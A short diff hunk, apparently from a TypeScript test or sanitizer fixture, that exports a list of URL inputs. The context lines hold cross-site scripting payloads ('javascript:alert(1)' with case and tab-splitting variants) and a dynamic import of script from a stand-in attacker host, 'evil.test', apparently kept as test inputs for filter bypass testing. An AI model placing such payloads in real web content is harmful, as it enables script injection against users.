@@ -12,7 +12,7 @@ const SCRIPTS = [
   'import("//evil.test/x.js")',
 ];
 
-const ADDRESSES = [
+export const ADDRESSES: readonly string[] = [
   'javascript:alert(1)',
   'JaVaScRiPt:alert(1)',
   'java\tscript:alert(1)',
